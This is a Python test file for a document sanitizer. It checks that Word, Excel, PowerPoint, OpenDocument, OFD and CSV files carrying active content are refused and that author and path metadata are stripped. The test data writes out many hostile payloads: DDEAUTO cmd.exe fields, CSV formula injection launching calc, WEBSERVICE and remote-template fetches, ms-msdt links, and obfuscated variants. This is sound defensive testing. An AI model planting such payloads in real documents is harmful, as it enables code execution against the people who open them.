"""Documents that start something when they are opened, and what their programs note in them for themselves."""

from __future__ import annotations

import io
import struct
import zipfile
from contextlib import suppress

import pytest

from plugins.kernel.downloads.clean import clean_bytes
from plugins.kernel.formats.faults import Acting, Damaged, Unclean
from plugins.kernel.formats.pieces import joined
from plugins.kernel.formats.places_on_pcs import attributes_without_folders
from tests.quiet_time import quiet_seconds
from tests.tables import table
from tests.unit.kernel.formats.samples import SECRET, compound, ofd, office, older_office, open_document, photo, zipped

DDE = r"DDEAUTO c:\\windows\\cmd.exe x"
BEGIN, END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'


def text(inner: str) -> bytes:
    """Return a Word document of these runs."""
    return office(**{"word/document.xml": f'<w:d xmlns:w="w">{inner}</w:d>'.encode()})


def field(*codes: str) -> str:
    return BEGIN + "".join(f"<w:instrText>{code}</w:instrText>" for code in codes) + END


def sheet(formula: str) -> bytes:
    return office("xlsx", **{"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>".encode()})


def calc(inner: str) -> bytes:
    return open_document("spreadsheet", **{"content.xml": f'<c xmlns:x="x" xmlns:t="t">{inner}</c>'.encode()})


def linked_book(name: bytes) -> bytes:
    """Return an older workbook with a link to something of that name."""
    record = struct.pack("<HHHHB", 0x1AE, 5 + len(name), 1, len(name), 0) + name
    return older_office(Workbook=(record + struct.pack("<HH", 0x0A, 0)).ljust(4096, b"\0"))


SLIDES = "PowerPoint Document"


def _record(kind: int, content: bytes) -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def related(kind: str, target: str, more: str = "") -> bytes:
    relation = f'<R><Relationship Type="http://x/{kind}" Target="{target}" {more}/></R>'.encode()
    return office(**{"word/_rels/document.xml.rels": relation})


ADDRESS = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "https://a.example.org/b.hta".encode("utf-16-le")


def holding(data: bytes) -> bytes:
    """Return a Word document in which an object lies."""
    return office(**{"word/embeddings/oleObject1.bin": data})


def of_streams(**named: bytes) -> bytes:
    """Return an object with these streams, whose names begin with a sign that nobody types."""
    return compound({f"\1{name}": content.ljust(4096, b"\0") for name, content in named.items()})


FILM = (
    b'<d xmlns:draw="d" xmlns:x="x"><draw:plugin x:href="Media/KEPT.mp4" '
    b'draw:mime-type="application/vnd.sun.star.media"/></d>'
)


@table(
    ("name", "data"),
    [
        ("a.docx", text(field(DDE))),
        ("a.docx", text(field("DDE", "AUTO c:"))),
        ("a.docx", text(BEGIN + field("QUOTE 68 68 69") + "<w:instrText> excel x</w:instrText>" + END)),
        ("a.docx", text(f'<w:fldSimple w:instr="{DDE}"/>')),
        ("a.docx", text(field('INCLUDEPICTURE "https://a.example.org/b.png"'))),
        ("a.docx", text(field(r'INCLUDETEXT "\\\\a\\b"'))),
        ("a.docx", text(field('HYPERLINK "ms-msdt:/id"'))),
        ("a.docx", office(**{"elsewhere/text.bin": f'<w:d xmlns:w="w">{field(DDE)}</w:d>'.encode()})),
        ("a.docx", related("hyperlink", "javascript:alert(1)")),
        ("a.docx", related("aFChunk", "b.mht")),
        ("a.docx", related("vbaProject", "b.bin")),
        ("a.docx", office(**{"word/activeX/activeX1.xml": b"<a/>"})),
        ("a.docx", office(**{"word/document.xml": "<a>x</a>".encode("utf-16")})),
        ("a.docx", office(**{"_xmlsignatures/a.xml": b"<a/>", "word/media/a.bin": b"MZ\x90\0"})),
        ("a.xlsx", sheet('_xlfn.WEBSERVICE("https://a.example.org")')),
        ("a.xlsx", sheet('WEBSERVI&#67;E("https://a.example.org")')),
        ("a.xlsx", sheet('<![CDATA[RTD("a",1)]]>')),
        ("a.xlsx", sheet("IF(1,cmd|'/c calc'!A0)")),
        ("a.xlsx", sheet('WEB<!-- a -->SERVICE("https://a.example.org")')),
        ("a.xlsx", sheet('WEB<?a b?>SERVICE("https://a.example.org")')),
        ("a.xlsx", sheet('<!-- </f> -->WEBSERVICE("https://a.example.org")')),
        ("a.xlsx", sheet('<![CDATA["</f><!--"&]]>WEBSERVICE("https://a.example.org")')),
        ("a.xlsx", sheet("cmd<!-- -->|'/c calc'!A0")),
        ("a.xlsx", office("xlsx", **{"xl/externalLinks/externalLink1.xml": b"<e><ddeLink/></e>"})),
        ("a.xlsx", office("xlsx", **{"xl/connections.xml": b'<c><connection id="1"/></c>'})),
        ("a.xlsx", office("xlsx", **{"xl/connections.xml": b'<c><connection name="a>b" id="1"/></c>'})),
        ("a.pptx", office("pptx", **{"ppt/slides/slide1.xml": b'<a action="ppaction://program"/>'})),
        ("a.pptx", office("pptx", **{"ppt/slides/slide1.xml": b'<a action="ppaction:&#x2f;/progr&#097;m"/>'})),
        ("a.ods", calc("<t:event-listener/>")),
        ("a.ods", calc('<t:a x:href="vnd.sun.star.script:b"/>')),
        ("a.ods", calc('<t:execute-macro t:name="a"/>')),
        ("a.ods", calc('<t:section-source x:href="https://a.example.org/b"/>')),
        ("a.ods", calc('<t:c t:formula="of:=DDE(&quot;a&quot;;1)"/>')),
        ("a.ods", calc('<t:c t:formula="=WEBSERVICE(&quot;https://a.example.org&quot;)"/>')),
        ("a.ods", calc('<t:c t:formula="of:=[\'https://a.example.org/b.ods\'#$C.A1]"/>')),
        ("a.ods", calc('<t:c t:formula="of:=[\'file://server/b.ods\'#$C.A1]"/>')),
        ("a.ods", calc('<t:named-expression t:expression="of:=WEBSERVICE(&quot;https://a.example.org&quot;)"/>')),
        ("a.ods", calc('<t:map t:condition="is-true-formula(WEBSERVICE(&quot;https://a.example.org&quot;))"/>')),
        ("a.ods", calc('<t:condition t:value="formula-is(WEBSERVICE(&quot;https://a.example.org&quot;))"/>')),
        ("a.ods", calc('<t:form t:datasource="https://a.example.org/b.odb"/>')),
        ("a.odp", open_document("presentation", **{"content.xml": FILM.replace(b"sun.star.media", b"a.plugin")})),
        ("a.ofd", zipped({"OFD.xml": b"<a/>", "Doc_0/Attachs/a.exe": b"text"})),
        ("a.doc", older_office(WordDocument=b"\x13 DDEAUTO c: x\x14".ljust(4100))),
        ("a.doc", older_office(WordDocument="\x13DDE excel x\x14".encode("utf-16-le").ljust(4100))),
        ("a.xls", linked_book(b"cmd\x03/c calc")),
        ("a.xls", compound({"Workbook": _record(0x85, bytes(5) + b"\1\1\0a").ljust(4096, b"\0")})),
        ("a.xls", compound({"Workbook": _record(0xDC, bytes(12)).ljust(4096, b"\0")})),
        ("a.xls", compound({"WORKBOOK": _record(0x85, bytes(5) + b"\1\1\0a").ljust(4096, b"\0")})),
        ("a.doc", older_office(WordDocument=b'\x13 INCLUDEPICTURE \\d "https://a.example.org/b"\x14'.ljust(4100))),
        ("a.doc", compound({"worddocument": '\x13INCLUDETEXT "\\\\\\\\a\\\\b"\x15'.encode("utf-16-le").ljust(4100)})),
        ("a.ppt", older_office(**{SLIDES: b"\xf3\x0f\x10\0\0\0".ljust(14, b"\0") + b"\2".ljust(4100, b"\0")})),
        ("a.docx", related("image", "&#x66;ile://server/a.png", 'TargetMode="External"')),
        ("a.docx", related("image", "file:&#x5c;&#92;server&#x5c;a.png", 'TargetMode="External"')),
        ("a.docx", related("oleObject", " file:////server/a>b", 'TargetMode="External"')),
        ("a.docx", related("oleObject", "search-ms:query=a", 'TargetMode="External"')),
        ("a.docx", related("image", "ms-msdt:/id", 'TargetMode="External"')),
        ("a.docx", holding(of_streams(Ole=bytes(24) + ADDRESS))),
        ("a.doc", compound({"WordDocument": bytes(4096), "\1OLE": ADDRESS.ljust(4096, b"\0")})),
        *(("a.docx", holding(spoilt)) for spoilt in (
            of_streams(Ole10Native=b"MZ")[:-1000], of_streams(OLE10native=b"MZ")[:-1000],
            of_streams(Ole=ADDRESS)[:-1000],
        )),
        ("a.csv", b"a,\"=cmd|'/c calc'!A0\"\n"),
        ("a.csv", "甲,＝cmd｜'/c calc'！A0\n".encode()),
        ("a.csv", "甲\n＋cmd|'/c calc'!A0\n".encode("gb18030")),
        ("a.csv", b"=cmd|'/c calc \" '!A0&\"x\"\n"), ("a.csv", b"=cmd|'/c ''calc'' '!A0\n"),
        ("a.csv", b"a,='cmd'|'/c calc'!A0\n"), ("a.csv", b"a,\"\"=cmd|'/c calc'!A0\n"),
        ("a.csv", b"='\\\\a.example.org\\b\\[c.xlsx]d'!A1\n"),
        ("a.csv", b"a,='https://a.example.org/[c.xlsx]d'!A1\n"),
        ("a.csv", b"a,='https://a.example.org/c.ods'#$d.A1\n"), ("a.csv", b"a,=\\\\a.example.org\\b\\c\n"),
        ("a.csv", b'ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc.exe")\nE\n'),
        ("a.csv", b'ID;P\r\nNN;NAuto_open;ER101C1\r\nE\r\n'),
        ("a.csv", b'a,b\n"=WEBSERVICE(""https://a.example.org"")",c\n'),
        *(("a.csv", f'sep={sign}\r\na{sign}b\r\n甲{sign}=WEBSERVICE("https://a.example.org/"&A2)\r\n'.encode(encoding))
          for sign in "|^]、x-" for encoding in ("utf-8", "utf-8-sig", "utf-16", "gb18030")),
        ("a.csv", b"Sep= |\r\na|=cmd|'/c calc'!A0\r\n"),
        ("a.csv", b'a,"=\nWEBSERVICE(""https://a.example.org"")"\n'),
        ("a.csv", b"https://a.example.org/b.png,=IMAGE(A1)\n"),
        ("a.xlsx", sheet("_xlfn.IMAGE(A2)")),
    ],
)  # fmt: skip
def test_what_starts_something_is_refused(name: str, data: bytes) -> None:
    """Programs, other programs' data, what is fetched from other hosts; in whatever letters."""
    with pytest.raises(Acting) as refused:
        clean_bytes(data, name)
    assert refused.value.mend.startswith("请")


@table(
    ("name", "data"),
    [
        ("a.docx", text(field("TOC \\o") + field("PAGE") + field('HYPERLINK "https://a.example.org/"'))),
        ("a.docx", text(field("INCLUDEPICTURE a.png"))),
        ("a.docx", related("hyperlink", "mailto:a@example.org", 'TargetMode="External"')),
        ("a.xlsx", sheet('IF(A1&gt;1,HYPERLINK("https://a.example.org","|!"),RECALL(1))')),
        ("a.ods", calc('<t:a x:href="https://a.example.org"/><t:c t:formula="of:=SUM([.A1:.A2])"/>')),
        ("a.ods", calc('<t:c t:formula="of:=[\'file:///C:/a/b.ods\'#$C.A1]"/><t:map t:condition="value()&gt;1"/>')),
        ("a.ods", calc('<t:named-expression t:expression="of:=[.A1]*2"/><t:form t:datasource="Bibliography"/>')),
        ("a.xls", linked_book(b"\1C\3b.xls")),
        ("a.xls", compound({"Workbook": _record(0x85, bytes(6) + b"\1\0a").ljust(4096, b"\0")})),
        ("a.doc", older_office(WordDocument=b"\x13 INCLUDEPICTURE a.png\x14 https://a.example.org/".ljust(4100))),
        ("a.ppt", older_office(**{SLIDES: b"\xf3\x0f\x10\0\0\0".ljust(14, b"\0") + b"\4".ljust(4100, b"\0")})),
        ("a.docx", related("image", "file:///C:/a/b.png", 'TargetMode="External"')),
        ("a.docx", text('<v:imagedata r:id="a" o:title="https://a.example.org/"/>')),
        ("a.csv", "姓名,-5|x\n=1+1,@甲|乙!\n".encode()),
        ("a.csv", "ID;Phone;Ende\nC;2;甲\n1;－5;＝1+1\n".encode()),
        ("a.csv", b'sep=|\na|=1+1|"-\n5"\n'),
        ("a.xlsx", sheet('DISPIMG("ID_1",1)')),
        ("a.docx", holding(of_streams(Ole=bytes(4096)))),
        ("a.docx", holding(of_streams(CompObj=b"Word", Ole=bytes(4096))[:-1000])),
        ("a.odp", open_document("presentation", **{"content.xml": FILM})),
    ],
)
def test_what_only_counts_or_is_clicked_is_taken(name: str, data: bytes) -> None:
    assert clean_bytes(data, name).pieces


def people(root: str) -> bytes:
    """Return a list of those who once remarked something."""
    return f'<?xml version="1.0"?>\n<{root} xmlns="u"><p name="SECRET"/></{root}>'.encode()


def pictured(said: str) -> bytes:
    """Return a picture of which a program says something."""
    return f'<wp:docPr id="1" descr={said} name="KEPT"/>'.encode()


def part(inner: bytes) -> bytes:
    """Return a part of an OpenDocument."""
    return b'<r xmlns:t="t" xmlns:xlink="x" xmlns:svg="s">' + inner + b"</r>"


def named(printer: str) -> bytes:
    return f'<s><c:config-item c:name="{printer}" xmlns:c="c">SECRET</c:config-item></s>'.encode()


@table(
    ("name", "data"),
    [
        ("a.xlsx", office("xlsx", **{"xl/printerSettings/p1.bin": SECRET})),
        ("a.docx", office(**{"word/_rels/document.xml.rels": b'<R><Relationship Type="http://x/thumbnail" '
                                                             b'Target="b.jpg"/></R>', "word/b.jpg": SECRET})),
        ("a.docx", office(**{"word/settings.xml": b'<w:s><w:docVars><w:docVar w:val="SECRET"/></w:docVars></w:s>'})),
        ("a.docx", office(**{"word/settings.xml": b'<w:s><w:mailMerge><w:q w:val="SECRET"/></w:mailMerge></w:s>'})),
        ("a.docx", office(**{"word/_rels/settings.xml.rels": b'<R><Relationship Type="http://x/recipientData" '
                                                             b'Target="who.xml"/></R>', "word/who.xml": SECRET})),
        ("a.docx", office(**{"word/recipientData.xml": SECRET})),
        ("a.docx", office(**{"customXml/item1.xml": SECRET, "docProps/thumbnail.jpeg": SECRET})),
        ("a.pptx", office("pptx", **{"ppt/webextensions/webextension1.xml": SECRET})),
        ("a.pptx", office("pptx", **{"ppt/changesInfos/changesInfo1.xml": SECRET, "ppt/revisionInfo.xml": SECRET})),
        ("a.pptx", office("pptx", **{"ppt/commentAuthors.xml": people("cmAuthorLst"), "ppt/authors.xml": people("a")})),
        ("a.docx", office(**{"docMetadata/LabelInfo.xml": SECRET, "word/people.xml": people("w15:people")})),
        ("a.docx", office(**{"word/d.xml": pictured('"C:\\Users\\SECRET\\一 (1).jpg"')})),
        ("a.docx", office(**{"word/d.xml": pictured("'/Users/SECRET/b.png'")})),
        ("a.docx", office(**{"word/d.xml": pictured('"file:///D:/SECRET/a.jpg"')})),
        *(("a.docx", office(**{"word/d.xml": pictured(f'"{place}"')})) for place in (
            "\\\\nas\\SECRET\\b.png", "\\\\张三电脑\\SECRET\\b.png", "/media/SECRET/U盘/b.png",
            "/run/media/SECRET/U盘/b.png", "/data/home/SECRET/桌面/b.png")),
        ("a.xlsx", office("xlsx", **{"xl/persons/person.xml": people("personList")})),
        ("a.xlsx", office("xlsx", **{"xl/workbook.xml": b'<w><fileSharing userName="SECRET" x="KEPT"/></w>'})),
        ("a.xlsx", office("xlsx", **{"xl/pivotCache/pivotCacheDefinition1.xml":
                                     b"<x:pivotCacheDefinition r:id='1' refreshedBy='SECRET' recordCount='2'/>"})),
        ("a.xlsx", office("xlsx", **{"xl/worksheets/s.xml": b'<s><scenario name="KEPT" user="SECRET" '
                                                                  b'comment="SECRET"/></s>'})),
        ("a.xlsx", office("xlsx", **{"xl/workbook.xml": b'<w>KEPT<customWorkbookView guid="{1}" name="SECRET"/></w>'})),
        *(("a.docx", office(**{name: b'<d xmlns:w="w">KEPT<w:x w:author="SECRET" w:date="SECRET"/></d>'}))
          for name in ("word/styles.xml", "word/numbering.xml", "word/glossary/document.xml")),
        ("a.docx", office(**{"word/glossary/people.xml": people("w15:people")})),
        ("a.docx", office(**{"word/d.xml": b'<d><w:permStart w:id="1" w:ed="a\\SECRET"/></d>'})),
        ("a.pptx", office("pptx", **{"ppt/tags/tag1.xml": b'<p:tagLst xmlns:p="p"><p:tag val="SECRET"/></p:tagLst>'})),
        ("a.ods", open_document("spreadsheet", **{"content.xml": part(b'KEPT<t:scenario t:comment="SECRET"/>')})),
        ("a.odt", open_document(**{
            "content.xml": part(b'KEPT<t:bookmark-start t:name="permission-for-user:1:a\\SECRET"/>')})),
        ("a.docx", office(**{"word/_rels/d.xml.rels": b'<R><R Target="../../../C:/Users/SECRET/b.jpg"/></R>'})),
        ("a.docx", office(**{"word/_rels/d.xml.rels": b'<R><R Target="..\\..\\Users\\SECRET\\b.jpg"/></R>'})),
        ("a.xlsx", office("xlsx", **{"xl/worksheets/s.xml": b"<s><f>'C:\\SECRET\\[KEPT.xls]S'!A1</f></s>"})),
        *(("a.ods", open_document("spreadsheet", **{"content.xml": part(said)})) for said in (
            b'<c t:formula="of:=[\'file:///C:/Users/SECRET/KEPT.ods\'#$S.A1]"/>',
            b'<c t:name="&apos;file:///C:/A&amp;B/SECRET/KEPT.ods&apos;#S"/>',
            b'<c xlink:href="../../../C:/Users/SECRET/KEPT"/>', b'<c xlink:href="../../home/SECRET/KEPT"/>',
            b"<c><svg:desc>C:\\Users\\SECRET\\KEPT.jpg</svg:desc></c>",
            b"<c><svg:title>/Users/SECRET/KEPT.jpg</svg:title></c>",
        )),
        ("a.odt", open_document(**{
            "Versions/Version1": SECRET, "VersionList.xml": b'<l><v creator="SECRET"/></l>',
            "META-INF/manifest.xml": b'<m><m:file-entry m:full-path="Versions/"/><m:file-entry m:full-path='
                                     b'"Versions/Version1" m:n="SECRET"/></m>'})),
        ("a.odt", open_document(**{"settings.xml": named("PrinterName"), "Thumbnails/thumbnail.png": SECRET})),
        ("a.odt", open_document(**{"content.xml": b'<c xmlns:xlink="x">KEPT<i xlink:href="file:///C:/SECRET/b"/></c>'})),
    ],
)  # fmt: skip
def test_what_programs_note_for_themselves_is_gone(name: str, data: bytes) -> None:
    """With all that refers to it; and what was cleaned once stays as it is."""
    found = joined(clean_bytes(data, name).pieces, data)
    with zipfile.ZipFile(io.BytesIO(found)) as opened:
        content = b"".join(opened.read(each) for each in opened.namelist())
    assert SECRET not in content and b"KEPT" in content and b"Relationship Type" not in content
    assert found == joined(clean_bytes(found, name).pieces, found)


def test_views_of_a_workbook_keep_names_of_their_own() -> None:
    views = b"".join(b'<customWorkbookView name="SECRET" guid="{%d}"/>' % number for number in range(2))
    data = office("xlsx", **{"xl/workbook.xml": b"<w>" + views + b"</w>"})
    with zipfile.ZipFile(io.BytesIO(joined(clean_bytes(data, "a.xlsx").pieces, data))) as opened:
        content = opened.read("xl/workbook.xml")
    assert b'name="1"' in content and b'name="2"' in content and b"guid" in content


@table(
    "said",
    [
        "<w:t>'C:\\a\\KEPT</w:t>", '<x h="https://b.example.org/home/KEPT"/>', '<x f="yyyy;h:\\KEPT"/>',
        "<x formatCode='\\\\a\\KEPT'/>", '<x Target="../media/KEPT"/>', '<x Target="/media/KEPT"/>',
        '<x f="of:=A1:B2/KEPT"/>',
        '<f>SUBSTITUTE(A1,"C:\\","KEPT")</f>', '<f>"/home/"&amp;KEPT</f>', "<x f='=A1=&quot;D:/&quot;'/>",
        '<f>"\\home\\"&amp;KEPT</f>', '<x Target="..\\media\\KEPT"/>',
        '<x o:string-value="C:\\a\\KEPT"/>', '<s v="C:\\a\\KEPT"/>', '<x string="C:\\a\\KEPT"/>',
        '<x prompt="D:/a/KEPT" error="D:/a/KEPT"/>',
    ],
)  # fmt: skip
def test_what_people_have_written_of_places_stays(said: str) -> None:
    assert f"<d>{said}</d>".encode() == attributes_without_folders(f"<d>{said}</d>".encode())


@table("said", ["<f>'C:\\SECRET\\[a]b'!A1</f>", '<f>HYPERLINK("C:\\SECRET\\"&amp;A1)</f>', '<x f="D:/SECRET/"/>'])
def test_the_folders_in_a_formula_go(said: str) -> None:
    assert b"SECRET" not in attributes_without_folders(f"<d>{said}</d>".encode())


def test_thousands_of_places_are_looked_at_once() -> None:
    data = b"<" + b"(C:/x\n>" * 100_000
    assert quiet_seconds(lambda: attributes_without_folders(data), bound=2.0) < 2.0


@table(
    "said", ['descr="KEPT: a"', 'formatCode="\\\\a\\KEPT/b"', 'x="KEPT C:\\a"', 'x="\\\\KEPT"', 'x="http://KEPT/a/b"']
)
def test_what_is_no_place_on_a_pc_stays(said: str) -> None:
    data = office(**{"word/d.xml": f"<d {said}/>".encode()})
    with zipfile.ZipFile(io.BytesIO(joined(clean_bytes(data, "a.docx").pieces, data))) as opened:
        assert said.encode() in opened.read("word/d.xml")


@table(
    ("name", "data"),
    [
        ("a.docx", office(**{"word/document.xml": b'<w:rPrChange w:id="1" w:author="A"/>'})),
        ("a.docx", office(**{"word/header1.xml": b'<w:ins w:author="A"/>'})),
        ("a.docx", office(**{"word/document2.xml": b'<w:ins w:author="A"/>'})),
        ("a.docx", office(**{"word/comments.xml": b"<c/>", "word/people.xml": people("w15:people")})),
        ("a.ods", open_document("spreadsheet", **{"content.xml": b'<c xmlns:table="t"><table:tracked-changes/></c>'})),
    ],
)
def test_who_has_changed_or_remarked_something_is_told(name: str, data: bytes) -> None:
    assert "改稿人的名字" in clean_bytes(data, name).hints[0][0]


@table(
    ("name", "data"),
    [
        ("a.ofd", zipped({"OFD.xml": b"<OFD><DocBody/></OFD>", "Doc_0/Res/a.jpg": photo("JPEG")})),
        ("a.docx", office(**{"_xmlsignatures/sig1.xml": b"<s/>", "word/media/a.png": photo("PNG")})),
    ],
)
def test_what_photos_in_a_sealed_document_say_is_told(name: str, data: bytes) -> None:
    assert "照片的拍摄信息" in clean_bytes(data, name).hints[0][0]


def test_old_versions_in_a_signed_document_are_told() -> None:
    signed = {"META-INF/documentsignatures.xml": b"<a/>", "Versions/Version1": SECRET}
    ((what, _),) = clean_bytes(open_document(**signed), "a.odt").hints
    assert "以前的版本" in what


def test_a_sealed_document_without_a_program_stays() -> None:
    assert clean_bytes(data := ofd(), "a.ofd").pieces == (data,)


_ENDLESS = (
    b"<Relationship ", b'<Relationship Target="file:a', b"<w:docVars>", b"<w:rsids></w:mailMerge>", b"<pageSetup ",
    b'<config-item name="PrinterName" ', b"<x15ac:absPath url='", b'<fileSharing userName="', b'xlink:href="file:a',
    b"<version-entry ", b"<connection ", b'Target="file:', b"/attachedTemplate' ", b"<!--", b"<![CDATA[]]>", b"&#97;",
    b'<fill a="', b"<connection a='b",
)  # fmt: skip
_PARTS_OF_EACH = {
    "a.docx": ("word/settings.xml", "word/_rels/document.xml.rels", "[Content_Types].xml", "word/people.xml"),
    "a.xlsx": ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"),
    "a.odt": ("settings.xml", "content.xml", "VersionList.xml", "META-INF/manifest.xml"),
}


def test_a_spoilt_document_in_an_archive_is_refused_for_what_it_seems_to_hold() -> None:
    """Word still opens what our reader does not."""
    spoilt = compound({"Macros": bytes(4096), "WordDocument": bytes(4096)})[:-1000]
    with pytest.raises(Unclean, match=r"a\.dot.*打不开来检查"):
        clean_bytes(zipped({"a.dot": spoilt}), "a.zip")


@table(
    "drawn",
    [
        '<v:fill src="{}"/>', '<v:imagedata title="a>b" src="{}"/>', '<q:imagedata q:href="{}"/>',
        '<v:imagedata src="h&#116;tps://a.example.org/b.png"/>', '<v:imagedata title=\'"\' src="{}"/>',
    ],
)  # fmt: skip
def test_a_picture_that_lies_elsewhere_is_told_however_it_is_written(drawn: str) -> None:
    """Word reads XML, so neither a bracket within a value nor the letters of a prefix hide where it looks."""
    found = clean_bytes(text(drawn.format("https://a.example.org/b.png")), "a.docx")
    assert ["https://a.example.org/b.png" in what for what, _ in found.hints] == [True]


def test_a_picture_of_a_button_that_lies_elsewhere_is_told() -> None:
    found = clean_bytes(calc('<t:button t:image-data="https://a.example.org/b.png"/>'), "a.ods")
    assert ["https://a.example.org/b.png" in what for what, _ in found.hints] == [True]


@table("said", _ENDLESS)
def test_what_begins_again_and_again_and_never_ends_is_read_once(said: bytes) -> None:
    """A few kilobytes, packed, would else keep a build for minutes; in one element and in many."""
    documents = []
    for name, parts in _PARTS_OF_EACH.items():
        for begun in (b"<a>", b"<Relationship ", b'<Relationship Target="file:'):
            more = dict.fromkeys(parts, begun + said * (60_000 // len(said)))
            data = open_document(**more) if name == "a.odt" else office(name.removeprefix("a."), **more)
            documents.append((name, data))

    def clean_all() -> None:
        for name, data in documents:
            with suppress(Damaged, Unclean):
                clean_bytes(data, name)

    assert quiet_seconds(clean_all, bound=2.0) < 2.0


def test_what_was_typed_for_a_property_stays_on_the_title_page() -> None:
    """Word would show the property in its place, which is empty."""
    bound = b'<w:sdt><w:sdtPr><w:alias w:val="KEPT"/><w:dataBinding w:xpath="/a" w:storeItemID="{6C3C}"/></w:sdtPr>KEPT'
    data = office(**{"word/document.xml": bound + b"</w:sdt>"})
    with zipfile.ZipFile(io.BytesIO(joined(clean_bytes(data, "a.docx").pieces, data))) as opened:
        found = opened.read("word/document.xml")
    assert b"dataBinding" not in found and b'<w:alias w:val="KEPT"/></w:sdtPr>KEPT</w:sdt>' in found


def test_settings_that_stand_between_notes_stay() -> None:
    written = (
        b"<w:s KEPT><w:rsids><w:r/></w:rsids>KEPT<w:docVars/>KEPT<w:mailMerge>x</w:mailMerge >KEPT<w:rsids>KEPT</w:s>"
    )
    data = office(**{"word/settings.xml": written})
    with zipfile.ZipFile(io.BytesIO(joined(clean_bytes(data, "a.docx").pieces, data))) as opened:
        assert opened.read("word/settings.xml") == b"<w:s KEPT>KEPTKEPTKEPTKEPT</w:s>"


def test_a_zip_that_grows_to_hundreds_of_times_its_size_says_what_to_do() -> None:
    with pytest.raises(Unclean, match="倍") as refused:
        clean_bytes(zipped({"a.bin": bytes(40_000_000)}), "a.zip")
    assert "另存一次" in refused.value.mend
    assert clean_bytes(zipped({"a.bin": bytes(20_000_000)}), "a.zip")
